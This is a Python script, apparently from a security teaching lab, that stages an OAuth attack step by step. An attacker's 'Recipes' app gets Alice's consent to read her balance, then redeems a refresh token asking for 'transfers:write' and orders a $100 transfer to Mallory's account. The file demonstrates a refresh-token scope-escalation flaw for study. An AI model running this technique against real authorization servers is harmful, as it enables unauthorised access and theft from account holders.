"""An app that may look renews its token, and asks for a little more."""

from labs.stage import PUBLIC, Stage
from labs.steps import step

SCOPE = "balance:read offline_access"
METADATA = PUBLIC | {"scope": SCOPE, "grant_types": ["authorization_code", "refresh_token"]}
ORDER = {"from_account": "alice-current", "to_account": "mallory-current", "amount": 100, "reference": "At night"}


@step("attacker")
def registers_an_app(stage: Stage) -> None:
    """Register an app that wants to look, and to stay connected; make its request for Alice."""
    redirect_uri = f"{stage.here.attacker}/collect"
    stage.kept["client_id"] = stage.attacker.register("Recipes", redirect_uri, **METADATA)["client_id"]
    stage.onward = stage.link(stage.kept["client_id"], redirect_uri, scope=SCOPE)


@step("Alice")
def alice_lets_it_look(stage: Stage) -> None:
    """Let the app look at the balance and stay connected: sign in as alice, read what it may do, and allow."""
    stage.lead_alice().agree()


@step("attacker")
def renews_its_token_with_more(stage: Stage) -> None:
    """Redeem the code; then, at night, renew the token with `scope=transfers:write`."""
    client_id = stage.kept["client_id"]
    stage.redeem_newest(client_id, f"{stage.here.attacker}/collect")
    # The client is registered for less, and Alice was shown less; a refresh shows no page to anybody.
    form = {"refresh_token": stage.collection.newest("refresh_token"), "scope": "transfers:write"}
    stage.kept["token"] = stage.attacker.token(grant_type="refresh_token", client_id=client_id, **form)


@step("attacker")
def moves_money(stage: Stage) -> None:
    """Order a transfer from Alice's account to Mallory's with what came back."""
    name = {"Idempotency-Key": stage.kept.get("verifier", "at night")}
    stage.attacker.bank("POST", "/transfers", stage.kept.get("token", ""), json=ORDER, headers=name)
